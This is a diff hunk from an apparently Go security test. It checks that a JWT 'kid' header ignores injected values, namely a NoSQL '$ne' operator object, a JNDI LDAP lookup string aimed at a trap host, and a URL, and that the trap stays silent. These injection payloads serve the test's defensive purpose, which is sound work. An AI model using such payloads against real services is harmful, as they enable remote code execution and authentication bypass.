@@ -121,7 +121,7 @@ func readsNothingIntoKid(t *T) {
 		{"an object", forge(map[string]any{"$ne": nil}, "")},
 		{"a JNDI lookup", forge("${jndi:ldap://"+trap.Host()+"/x}", "")},
 		{"a URL", forge(trap.URL("/k"), "")},
-	}, 401)
+	}.In("kid"), 401)
 	t.Expect(trap).To(staySilent)
 }
 
